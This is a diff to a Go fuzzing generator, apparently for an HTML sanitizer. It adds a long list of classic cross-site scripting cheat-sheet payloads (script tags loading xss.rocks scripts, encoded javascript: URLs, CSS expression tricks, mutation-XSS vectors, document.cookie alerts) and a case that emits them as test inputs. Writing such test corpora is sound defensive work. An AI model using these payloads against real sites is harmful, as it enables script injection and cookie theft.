@@ -26,9 +26,9 @@ var (
 		"data:text/html,<script>alert(1)</script>", "mailto:a@b.c", "//host/p", "http://[::1]/", "http://a b/", "%zz", "vbscript:x",
 		"", "?q=1", "ftp://f/x", "x:y", "http:\\\\e.com\\p", "HTTP://EXAMPLE.ORG/Up", "http://u:p@h.com/", "http://h.com/%41%zz", "https://xn--nxasmq6b.example/",
 		"http://example.com/é", "\x01javascript:alert(1)", "http://example.org/a b", "tel:+1234", "HtTpS://e.com/x?y=<z>"}
-	genTextVals = []string{"k", "a b", "x\"y", "<i>", "&amp;", "é中", "1", "50%", "rtl", "LTR", "", "left", "abc def", "'q'", "a\x00b", "on", "red;"}
-	genRelVals  = []string{"nofollow", "NOFOLLOW", "noopener", "tag", "xnofollowx", "", "me  nofollow", "noreferrer noopener", "notnoopenerx", "author\tnofollow"}
-	genTgtVals  = []string{"_blank", "_top", "", "_BLANK", "frame1"}
+	genTextVals  = []string{"k", "a b", "x\"y", "<i>", "&amp;", "é中", "1", "50%", "rtl", "LTR", "", "left", "abc def", "'q'", "a\x00b", "on", "red;"}
+	genRelVals   = []string{"nofollow", "NOFOLLOW", "noopener", "tag", "xnofollowx", "", "me  nofollow", "noreferrer noopener", "notnoopenerx", "author\tnofollow"}
+	genTgtVals   = []string{"_blank", "_top", "", "_BLANK", "frame1"}
 	genStyleVals = []string{"color: red", "color:red;background:url(javascript:alert(1))", "COLOR: RED; font-size: 12px", "text-align:center;;", "width: expression(alert(1))",
 		"color: \\72 ed", "-webkit-transition: none", "color: red !important", "background-image: url('http://e.com/a;b.png')", "/* c */ color: blue", "color", ":", "color: r\\65 d", "font-family: \\110000 x"}
 	genSandboxVals = []string{"allow-forms", "allow-scripts allow-forms", "allow-forms  allow-forms", "bogus", "", "ALLOW-FORMS", "allow-same-origin\tallow-popups bogus"}
@@ -319,6 +319,36 @@ var soup = []string{"<script>", "</script>", "<style>", "</style>", "<svg>", "</
 	"<tr>", "<caption>", "<col>", "<colgroup>", "<tbody>", "</p", "<p ", "<a b='", "<a b=\"", "<a b=c", "x=y", "<!", "<?", "<%", "</ x>", "</>", "<a/b=c>", "<a\x00b>", "<b\x0c>", "&#0;", "&#x110000;", "&#128;", "&notit;", "&ampx",
 }
 
+// xssVectors: the classic cheat-sheet families (tag/attribute splitting, encoded schemes, raw-text and
+// foreign-content confusion).
+var xssVectors = []string{
+	`<script>alert(1)</script>`, `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`, `<IMG SRC="javascript:alert('XSS');">`, `<IMG SRC=javascript:alert('XSS')>`,
+	`<IMG SRC=JaVaScRiPt:alert('XSS')>`, "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", `<a onmouseover="alert(document.cookie)">xxs link</a>`,
+	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`, `<IMG SRC=# onmouseover="alert('xxs')">`, `<IMG SRC= onmouseover="alert('xxs')">`, `<IMG onmouseover="alert('xxs')">`,
+	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`, `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
+	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
+	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`, "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`, `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`, "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`, `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
+	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`, `<SCRIPT SRC=//xss.rocks/.j>`, `<IMG SRC="javascript:alert('XSS')"`, `<iframe src=http://xss.rocks/scriptlet.html <`, `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
+	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, `<BODY BACKGROUND="javascript:alert('XSS')">`, `<IMG DYNSRC="javascript:alert('XSS')">`, `<IMG LOWSRC="javascript:alert('XSS')">`,
+	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, `<IMG SRC='vbscript:msgbox("XSS")'>`, `<svg/onload=alert('XSS')>`, `<BODY ONLOAD=alert('XSS')>`,
+	`<BGSOUND SRC="javascript:alert('XSS');">`, `<BR SIZE="&{alert('XSS')}">`, `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
+	`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`, `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`, `<XSS STYLE="behavior: url(xss.htc);">`,
+	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`, `<XSS STYLE="xss:expression(alert('XSS'))">`,
+	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
+	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`, `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, `<TABLE BACKGROUND="javascript:alert('XSS')">`,
+	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`, `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`, `<DIV STYLE="width: expression(alert('XSS'));">`, `<BASE HREF="javascript:alert('XSS');//">`,
+	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`, `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
+	`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`, `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`, `<A HREF="//www.google.com/">XSS</A>`, `<A HREF="h\ntt  p://6 6.000146.0x7.147/">XSS</A>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">`,
+	`<textarea><script>alert(1)</script></textarea>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
+	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`, `<?xml version="1.0"?><script>alert(1)</script>`, `<a href="&#x6a;avascript:alert(1)">x</a>`, `<a href="java&#x73;cript&colon;alert(1)">x</a>`, `<a href="\x01javascript:alert(1)">x</a>`,
+	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<a href=javascript&colon;alert&lpar;1&rpar;>x</a>`, "<scr\xc4\xb0pt>alert(1)</scr\xc4\xb0pt>",
+	`<script/>alert(1)</script>`, `<style/>*{x:expression(alert(1))}</style>`, `<a href="http://good.example/" target="_blank" rel="xnoopenerx">x</a>`, `<del cite="javascript:alert(1)">x</del>`, `<q cite="JaVaScRiPt:alert(1)">x</q>`,
+}
+
 // GenDoc generates one input document as bytes; kind selects the generator family.
 func GenDoc(r *rand.Rand, p *AP, kind int) (toks []Tok, b []byte) {
 	g := &docGen{r: r, p: p}
@@ -420,6 +450,15 @@ func GenDoc(r *rand.Rand, p *AP, kind int) (toks []Tok, b []byte) {
 		}
 		b = Serialise(toks, vr)
 		return toks, b
+	case 8: // XSS cheat-sheet vectors, alone, concatenated, or spliced with soup
+		var sb strings.Builder
+		for k := 1 + r.Intn(3); k > 0; k-- {
+			sb.WriteString(pickS(r, xssVectors))
+			if r.Intn(3) == 0 {
+				sb.WriteString(pickS(r, soup))
+			}
+		}
+		return nil, []byte(sb.String())
 	case 4: // fragment soup
 		var sb strings.Builder
 		for k := 1 + r.Intn(10); k > 0; k-- {
